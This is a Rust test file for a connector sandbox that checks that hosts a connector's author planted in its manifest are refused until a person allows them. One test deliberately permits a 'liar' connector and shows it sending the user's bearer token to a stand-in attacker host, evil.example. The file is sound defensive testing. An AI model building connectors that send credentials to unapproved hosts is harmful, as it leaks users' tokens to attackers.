//! What a connector's author wrote into its manifest is a wish: a host that nobody named gets neither
//! a request nor a secret.

use airlock_runtime::Category;
use serde_json::json;
use support::{Connect, EVIL, Lab, guest};

/// A connection of one of the liar's kinds, with a token URL only where the kind leaves it open.
fn liar(kind: &str) -> Connect {
    let connect = Connect::to("liar_hosts").kind(kind);
    if kind == "planted-default" {
        connect.without_token_url()
    } else {
        connect
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_of_the_authors_own_is_refused_by_name_until_a_person_allows_it() {
    let lab = Lab::open().await;
    for (kind, wants) in [
        ("client-credentials", "reach evil.example:*"),
        ("own-authority", "sign in at evil.example"),
        ("planted-default", "sign in at evil.example"),
    ] {
        let error = lab.try_connect(liar(kind)).await.map(drop).unwrap_err();
        assert_eq!(error.category(), Category::Input, "{kind}: {error}");
        assert!(error.to_string().contains(wants), "{kind}: {error}");
        assert!(
            error.to_string().contains("--allow-host"),
            "{kind}: {error}"
        );
    }
    for (kind, host) in [("own-authority", EVIL), ("planted-default", EVIL)] {
        let allowed = lab.try_connect(liar(kind).named(kind).allowed(host)).await;
        assert!(allowed.is_ok(), "{kind}: {:?}", allowed.map(drop));
    }
    // What the refusals above prevented.
    let thief = lab
        .connect(liar("client-credentials").allowed("evil.example:*"))
        .await;
    thief
        .run(json!({ "url": lab.evil_url("/caught") }))
        .await
        .unwrap();
    let bearer = format!("Bearer {}", thief.login.token);
    let caught = lab.evil.seen_at("/caught");
    assert_eq!(caught[0].header("authorization"), Some(bearer.as_str()));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_new_version_cannot_bring_a_host_along() {
    let lab = Lab::open().await;
    let guest_of_old = lab.guest("honest").await;
    assert_eq!(guest_of_old.run(json!({})).await.unwrap()["status"], 200);
    lab.host
        .add_connector(
            &guest_of_old.tenant,
            Some("honest".parse().unwrap()),
            guest("liar_hosts"),
        )
        .await
        .unwrap();
    let error = guest_of_old
        .run(json!({ "url": lab.evil_url("/x") }))
        .await
        .unwrap_err();
    assert!(error.to_string().contains("evil.example:*"), "{error}");
    assert_eq!(lab.evil.connections(), 0);
}
